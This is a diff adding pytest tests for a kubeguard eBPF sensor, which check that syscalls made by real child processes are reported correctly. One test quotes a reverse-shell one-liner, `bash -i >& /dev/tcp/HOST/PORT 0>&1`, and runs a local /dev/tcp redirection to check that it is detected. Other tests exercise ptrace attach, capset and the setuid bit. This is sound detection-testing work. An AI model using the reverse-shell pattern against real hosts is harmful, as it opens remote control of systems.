@@ -1,0 +1,320 @@
+"""The bpftrace sensor on real processes: each traced syscall observed from a process we start."""
+
+from __future__ import annotations
+
+import os
+import secrets
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from podlab import PodLab
+from sensorlog import EventLog, run_sensor
+
+from conftest import need_podlab, need_root, require
+from kubeguard.sensors.ebpf import EbpfSensor, tracing_dir
+
+PY = sys.executable
+
+
+@pytest.fixture(scope="module")
+def log(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EventLog]:
+    need_root("bpftrace")
+    require(shutil.which("bpftrace") is not None, "bpftrace")
+    require(tracing_dir() is not None, "tracefs")
+    record = Path(os.environ["KG_RECORD_BPFTRACE"]) if os.environ.get("KG_RECORD_BPFTRACE") else None
+    yield from run_sensor(EbpfSensor(record=record))
+
+
+def py(code: str, **kwargs) -> subprocess.CompletedProcess[str]:
+    """Run a small Python program as a child process (its pid is what the sensor must report)."""
+    return subprocess.run([PY, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=30,
+                          check=True, **kwargs)
+
+
+def mark() -> str:
+    return "kgs" + secrets.token_hex(4)
+
+
+def test_exec_with_args_cwd_and_exit_code(log: EventLog, tmp_path: Path) -> None:
+    tag = mark()
+    proc = subprocess.run(["/bin/sh", "-c", f"/bin/echo {tag} two 'three four' >/dev/null; exit 7"], cwd=tmp_path)
+    assert proc.returncode == 7
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e["proc.name"] == "echo" and tag in e.get("proc.args", ""))
+    assert ev["evt.res"] == "SUCCESS"
+    assert ev["proc.args"] == f"{tag} two three four"
+    assert ev["proc.exepath"] == "/bin/echo"
+    assert ev["proc.name"] == "echo"
+    assert ev["proc.cwd"] == f"{tmp_path}/"
+    assert ev["user.uid"] == 0
+    assert ev["proc.ppid"] != ev["proc.pid"]
+    assert ev["_pidns"] == os.stat("/proc/self/ns/pid").st_ino
+    shell = log.wait(lambda e: e["evt.type"] == "procexit" and e["proc.pid"] == ev["proc.ppid"])
+    assert shell["evt.arg.ret"] == 7
+
+
+def test_exec_in_new_pid_namespace_and_with_tty(log: EventLog) -> None:
+    tag = mark()
+    subprocess.run(["unshare", "-pf", "/bin/echo", tag], check=True, capture_output=True)
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
+    assert ev["proc.vpid"] == 1
+    assert ev["proc.pid"] != 1
+    assert ev["_pidns"] != os.stat("/proc/self/ns/pid").st_ino
+    tag = mark()
+    subprocess.run(["script", "-qc", f"/bin/echo {tag}", "/dev/null"], check=True, capture_output=True)
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
+    assert ev["proc.tty"] != 0
+
+
+def test_failed_exec_reports_errno(log: EventLog) -> None:
+    missing = Path("/tmp") / f"{mark()}-missing"  # short: the sensor keeps 64 bytes of a path
+    py(f"""
+        import os
+        try:
+            os.execv({str(missing)!r}, [{str(missing)!r}])
+        except FileNotFoundError:
+            pass
+    """)
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.exepath") == str(missing))
+    assert ev["evt.res"] == "ENOENT"
+    assert ev["evt.rawres"] == -2
+
+
+def test_connect_and_accept_ipv4(log: EventLog) -> None:
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        port = server.getsockname()[1]
+        client = subprocess.Popen([PY, "-c", textwrap.dedent(f"""
+            import socket, sys
+            s = socket.create_connection(("127.0.0.1", {port}))
+            print(s.getsockname()[1], flush=True)
+            sys.stdin.read()
+        """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        conn, _ = server.accept()
+        assert client.stdout is not None
+        cport = int(client.stdout.readline())
+        conn.close()
+        assert client.stdin is not None
+        client.stdin.close()
+        client.wait(timeout=10)
+    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == client.pid and e.get("fd.sport") == port)
+    assert ev["evt.res"] == "SUCCESS"
+    assert (ev["fd.sip"], ev["fd.cip"], ev["fd.cport"]) == ("127.0.0.1", "127.0.0.1", cport)
+    assert (ev["fd.type"], ev["fd.l4proto"]) == ("ipv4", "tcp")
+    assert ev["fd.name"] == f"127.0.0.1:{cport}->127.0.0.1:{port}"
+    acc = log.wait(lambda e: e["evt.type"].startswith("accept") and e["proc.pid"] == os.getpid()
+                   and e.get("fd.cport") == cport)
+    assert (acc["fd.sip"], acc["fd.sport"], acc["fd.rport"], acc["fd.lport"]) == ("127.0.0.1", port, cport, port)
+
+
+def test_connect_ipv6_refused_and_unix(log: EventLog, tmp_path: Path) -> None:
+    with socket.socket(socket.AF_INET6) as probe:
+        probe.bind(("::1", 0))
+        port = probe.getsockname()[1]  # bound, not listening: connect is refused
+        sock_path = tmp_path / "kg.sock"
+        with socket.socket(socket.AF_UNIX) as unix_server:
+            unix_server.bind(str(sock_path))
+            unix_server.listen()
+            done = py(f"""
+                import socket, os
+                s = socket.socket(socket.AF_INET6)
+                print(os.getpid(), s.connect_ex(("::1", {port})))
+                u = socket.socket(socket.AF_UNIX)
+                u.connect({str(sock_path)!r})
+            """)
+    pid = int(done.stdout.split()[0])
+    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == pid and e.get("fd.type") == "ipv6")
+    assert (ev["fd.sip"], ev["fd.sport"], ev["evt.res"]) == ("::1", port, "ECONNREFUSED")
+    ev = log.wait(lambda e: e["evt.type"] == "connect" and e["proc.pid"] == pid and e.get("fd.type") == "unix")
+    assert ev["fd.name"] == str(sock_path)
+    assert ev["evt.res"] == "SUCCESS"
+
+
+def test_open_of_watched_paths_only(log: EventLog, tmp_path: Path) -> None:
+    unwatched = tmp_path / "plain.txt"
+    unwatched.write_text("x")
+    done = py(f"""
+        import os
+        print(os.getpid())
+        open("/etc/hostname").read()
+        open({str(unwatched)!r}).read()
+        try:
+            os.open("/etc/{mark()}-absent", os.O_WRONLY)
+        except FileNotFoundError:
+            pass
+    """)
+    pid = int(done.stdout)
+    ev = log.wait(lambda e: e["evt.type"] == "openat" and e["proc.pid"] == pid and e["fd.name"] == "/etc/hostname")
+    assert ev["evt.is_open_read"] is True
+    assert ev["evt.is_open_write"] is False
+    assert ev["fd.num"] >= 3
+    assert "O_RDONLY" in ev["evt.arg.flags"]
+    failed = log.wait(lambda e: e["evt.type"] == "openat" and e["proc.pid"] == pid and e["evt.res"] == "ENOENT")
+    assert failed["evt.is_open_write"] is True
+    log.wait(lambda e: e["evt.type"] == "procexit" and e["proc.pid"] == pid)
+    assert not log.all(lambda e: e.get("fd.name") == str(unwatched))
+
+
+def test_setuid_setresuid_setgid(log: EventLog) -> None:
+    done = py("""
+        import os
+        print(os.getpid())
+        os.setgid(65534)
+        os.setresuid(65534, 65534, 65534)
+        try:
+            os.setuid(0)
+        except PermissionError:
+            pass
+    """)
+    pid = int(done.stdout)
+    gid = log.wait(lambda e: e["evt.type"] == "setgid" and e["proc.pid"] == pid)
+    assert (gid["evt.arg.gid"], gid["evt.res"], gid["group.gid"]) == (65534, "SUCCESS", 65534)
+    res = log.wait(lambda e: e["evt.type"] == "setresuid" and e["proc.pid"] == pid)
+    assert (res["evt.arg.ruid"], res["evt.arg.euid"], res["evt.arg.suid"]) == (65534, 65534, 65534)
+    assert res["user.uid"] == 65534
+    back = log.wait(lambda e: e["evt.type"] == "setuid" and e["proc.pid"] == pid)
+    assert (back["evt.arg.uid"], back["evt.res"]) == (0, "EPERM")
+
+
+def test_capset(log: EventLog) -> None:
+    done = py("""
+        import ctypes, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        header = (ctypes.c_uint32 * 2)(0x20080522, 0)
+        data = (ctypes.c_uint32 * 6)()
+        assert libc.capget(header, data) == 0
+        data[0] = 1 << 21 | 1 << 7            # effective: CAP_SYS_ADMIN, CAP_SETUID
+        data[3] = 0
+        print(os.getpid(), libc.capset(header, data))
+    """)
+    pid, rc = (int(v) for v in done.stdout.split())
+    assert rc == 0
+    ev = log.wait(lambda e: e["evt.type"] == "capset" and e["proc.pid"] == pid)
+    assert ev["evt.arg.cap_effective"] == "CAP_SETUID CAP_SYS_ADMIN"
+    assert "CAP_SYS_ADMIN" in ev["evt.arg.cap_permitted"]
+
+
+def test_ptrace_attach(log: EventLog) -> None:
+    target = subprocess.Popen(["sleep", "30"])
+    try:
+        done = py(f"""
+            import ctypes, os
+            libc = ctypes.CDLL(None, use_errno=True)
+            libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+            print(os.getpid(), libc.ptrace(16, {target.pid}, None, None))
+            os.waitpid({target.pid}, 0x40000000)  # __WALL: collect the stop
+            libc.ptrace(17, {target.pid}, None, None)
+        """)
+    finally:
+        target.kill()
+        target.wait()
+    pid, rc = (int(v) for v in done.stdout.split())
+    assert rc == 0
+    ev = log.wait(lambda e: e["evt.type"] == "ptrace" and e["proc.pid"] == pid
+                  and e["evt.arg.request"] == "PTRACE_ATTACH")
+    assert ev["evt.arg.pid"] == target.pid
+    assert ev["evt.res"] == "SUCCESS"
+
+
+def test_unshare_mount_umount_in_private_namespace(log: EventLog) -> None:
+    tag = mark()
+    target = Path(tempfile.mkdtemp(prefix="kgs-mnt-", dir="/tmp"))  # short: 64 bytes of a path are kept
+    request_cleanup = target.rmdir
+    subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
+                    f"mount -t tmpfs {tag} {target} && umount {target}"], check=True, capture_output=True)
+    request_cleanup()
+    mount = log.wait(lambda e: e["evt.type"] == "mount" and e.get("evt.arg.dev") == tag)
+    assert (mount["evt.arg.dir"], mount["evt.arg.type"], mount["evt.res"]) == (str(target), "tmpfs", "SUCCESS")
+    umount = log.wait(lambda e: e["evt.type"] == "umount" and e.get("evt.arg.name") == str(target))
+    assert umount["evt.res"] == "SUCCESS"
+    # unshare(1) calls unshare(CLONE_NEWNS), then execs the shell that forks mount
+    unshare = log.wait(lambda e: e["evt.type"] == "unshare" and e["proc.pid"] == mount["proc.ppid"])
+    assert "CLONE_NEWNS" in unshare["evt.arg.flags"]
+
+
+def test_setns(log: EventLog) -> None:
+    tag = mark()
+    holder = subprocess.Popen(["unshare", "-u", "sleep", "30"])
+    try:
+        for _ in range(100):  # until sleep runs in its own UTS namespace
+            if os.stat(f"/proc/{holder.pid}/ns/uts").st_ino != os.stat("/proc/self/ns/uts").st_ino:
+                break
+            time.sleep(0.02)
+        subprocess.run(["nsenter", "-t", str(holder.pid), "-u", "/bin/echo", tag], check=True, capture_output=True)
+    finally:
+        holder.kill()
+        holder.wait()
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
+    setns = log.wait(lambda e: e["evt.type"] == "setns" and e["proc.pid"] == ev["proc.pid"])
+    assert setns["evt.arg.nstype"] == "CLONE_NEWUTS"
+    assert setns["evt.res"] == "SUCCESS"
+
+
+def test_memfd_create(log: EventLog) -> None:
+    tag = mark()
+    done = py(f"import os; os.memfd_create({tag!r}); print(os.getpid())")
+    ev = log.wait(lambda e: e["evt.type"] == "memfd_create" and e["proc.pid"] == int(done.stdout))
+    assert ev["evt.arg.name"] == tag
+    assert "MFD_CLOEXEC" in ev["evt.arg.flags"]
+    assert ev["fd.num"] >= 3
+
+
+def test_dup2_of_socket_onto_stdout_is_a_reverse_shell_signature(log: EventLog) -> None:
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        port = server.getsockname()[1]
+        # bash's own /dev/tcp redirection, as in `bash -i >& /dev/tcp/HOST/PORT 0>&1`
+        shell = subprocess.Popen(["bash", "-c", f"echo {mark()} >& /dev/tcp/127.0.0.1/{port}"])
+        conn, _ = server.accept()
+        conn.recv(100)
+        conn.close()
+        shell.wait(timeout=10)
+    dups = [log.wait(lambda e, n=n: e["evt.type"] in ("dup2", "dup3") and e["proc.pid"] == shell.pid
+                     and e["evt.arg.newfd"] == n) for n in (1, 2)]
+    for ev in dups:
+        assert (ev["fd.type"], ev["fd.sip"], ev["fd.sport"], ev["fd.l4proto"]) == ("ipv4", "127.0.0.1", port, "tcp")
+        assert ev["fd.num"] == ev["evt.arg.newfd"]
+    # bash restores its stdout afterwards: that dup2 has a non-socket old fd
+    assert log.all(lambda e: e["evt.type"] in ("dup2", "dup3") and e["proc.pid"] == shell.pid
+                   and e.get("fd.type") not in ("ipv4", "ipv6"))
+
+
+def test_chmod_adding_setuid_bit(log: EventLog) -> None:
+    workdir = Path(tempfile.mkdtemp(prefix="kgs-", dir="/tmp"))  # short: 64 bytes of a path are kept
+    target = workdir / "suid-bin"
+    target.write_text("#!/bin/sh\n")
+    subprocess.run(["chmod", "u+s,a+x", str(target)], check=True)
+    subprocess.run(["chmod", "0755", str(target)], check=True)  # no setuid bit: not traced
+    shutil.rmtree(workdir)
+    ev = log.wait(lambda e: e["evt.type"] in ("chmod", "fchmodat", "fchmodat2", "fchmod")
+                  and e.get("fd.name", "") == str(target))
+    assert "S_ISUID" in ev["evt.arg.mode"]
+    assert ev["evt.rawarg.mode"] & 0o4000
+    assert len(log.all(lambda e: e.get("fd.name", "") == str(target) and "chmod" in e["evt.type"])) == 1
+
+
+def test_cgroup_id_is_the_pods_cgroup_inode(log: EventLog, podlab: PodLab) -> None:
+    need_podlab()
+    pod = podlab.pod("sensor-probe")
+    tag = mark()
+    result = pod.run(["/bin/echo", tag])
+    assert result.returncode == 0, result.stderr
+    ev = log.wait(lambda e: e["evt.type"] == "execve" and e.get("proc.args") == tag)
+    assert ev["_cgroup_id"] == pod.cgroup_id
+    assert ev["_cgroup_id"] != os.stat("/sys/fs/cgroup").st_ino
+
+
+def test_stats_count_events_without_loss(log: EventLog) -> None:
+    stats = log.sensor.stats()
+    assert stats["events"] >= len(log.events) > 0
+    assert stats["lost"] == 0
+    assert stats["parse_errors"] == 0
